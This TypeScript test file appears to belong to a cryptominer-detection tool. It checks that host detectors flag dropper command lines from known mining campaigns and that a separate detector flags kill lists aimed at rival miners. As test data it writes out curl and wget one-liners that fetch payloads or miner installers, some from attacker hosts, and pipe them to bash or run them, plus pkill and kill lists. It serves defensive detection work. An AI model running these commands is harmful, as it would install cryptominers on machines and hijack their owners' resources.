import { test } from "node:test";
import assert from "node:assert/strict";
import type { Event } from "../../../model/index.js";
import { runDetector } from "../../../test-helpers/index.js";
import { hostDetectors } from "./index.js";
import { RIVAL_MINER_KILL_ID, rivalMinerKillDetector } from "./rival-miner-kill.js";

/**
 * A dropper command line of each campaign in data/intel/campaigns.yaml, as the reports show them (file
 * names, paths and hosts from the reports; wallets and addresses are documentation values), run through
 * every host detector: each must give a finding strong enough to open an incident (above 0.4).
 */
let line = 0;
function proc(commandLine: string, name = commandLine.trim().split(/\s+/)[0]!.split("/").pop()!, extra: Event = {}): Event {
  line++;
  return {
    "@timestamp": "2026-11-20T03:14:07.000Z", "event.dataset": "auditd", "event.category": ["process"], "event.kind": "event",
    "log.file.path": "audit.log", "minerhunt.line": line, "host.name": "web-01", "user.name": "www-data",
    "process.name": name, "process.command_line": commandLine, ...extra,
  };
}

const WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge";

const DROPPERS: Record<string, string> = {
  "Outlaw (Dota)": "/tmp/.X2-x-unix/.rsync/a/kswapd0",
  "Outlaw (Dota) archive": "wget -q http://192.0.2.10/dota3.tar.gz && tar xf dota3.tar.gz && rm -rf dota3.tar.gz",
  "Kinsing (H2Miner)": "wget -q -O /tmp/kdevtmpfsi http://192.0.2.11/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi",
  "TeamTNT": "curl -sLk http://teamtnt.red/sh/setup/moneroocean_miner.sh | bash",
  "8220 Gang": "/tmp/sysupdate -B",
  "WatchDog": "/tmp/networkservice",
  "pwnRig": "/tmp/.ssh/pwnrig -B",
  "RedTail": "chmod +x redtail.x86_64 && ./redtail.x86_64 ssh",
  "C3Pool installer": `curl -s -L https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh | LC_ALL=en_US.UTF-8 bash -s ${WALLET}`,
  "MoneroOcean installer": `curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh | bash -s ${WALLET}`,
};

for (const [campaign, cmd] of Object.entries(DROPPERS)) {
  test(`the ${campaign} dropper is flagged by the host detectors`, () => {
    const findings = hostDetectors.flatMap((d) => runDetector(d, [proc(cmd)]));
    const best = Math.max(0, ...findings.map((f) => f.confidence));
    assert.ok(best > 0.4, `${campaign}: best confidence ${best} from ${findings.map((f) => f.rule.id).join(", ") || "nothing"}`);
  });
}

test("Outlaw's miner as auditd records its execution (name, executable, relative command line) is flagged", () => {
  const ev = proc("./kswapd0", "kswapd0", { "process.executable": "/tmp/.X2-x-unix/.rsync/a/kswapd0", "process.working_directory": "/tmp/.X2-x-unix/.rsync/a" });
  const findings = hostDetectors.flatMap((d) => runDetector(d, [ev]));
  assert.ok(findings.some((f) => f.confidence > 0.4), findings.map((f) => `${f.rule.id} ${f.confidence}`).join("; "));
});

test("a rival-miner kill list is flagged; one pkill or a grep is not", () => {
  const killList = "pkill -f kdevtmpfsi; pkill -f kinsing; killall -9 xmrig; ps aux | grep -v grep | grep 'xmrpool.eu\\|monerohash.com' | awk '{print $2}' | xargs kill -9";
  const [f, ...rest] = runDetector(rivalMinerKillDetector, [proc(`bash -c "${killList}"`, "bash")]);
  assert.equal(rest.length, 0);
  assert.equal(f!.rule.id, RIVAL_MINER_KILL_ID);
  assert.equal(f!.confidence, 0.65);
  assert.deepEqual(String(f!.facts?.["kill.targets"]).split(","), ["kdevtmpfsi", "kinsing", "xmrig", "xmrpool.eu", "monerohash.com"]);
  assert.match(String(f!.facts?.["campaign.names"]), /Kinsing/);
  const two = runDetector(rivalMinerKillDetector, [proc("pkill -f ddgs; pkill -f wnTKYg")]);
  assert.equal(two.length, 1);
  assert.equal(two[0]!.confidence, 0.5);
  assert.deepEqual(runDetector(rivalMinerKillDetector, [
    proc("pkill -f xmrig"),
    proc("grep -c kinsing /var/log/syslog; grep xmrig /etc/passwd"),
    proc("systemctl restart nginx; kill -HUP 1234"),
  ]), []);
  // Among the host detectors only this one reads a plain kill list (miner-process leaves pkill lines alone).
  const plain = "pkill -f kdevtmpfsi; pkill -f kinsing; killall -9 xmrig";
  assert.deepEqual(hostDetectors.flatMap((d) => runDetector(d, [proc(plain, "bash")])).map((x) => x.rule.id), [RIVAL_MINER_KILL_ID]);
});
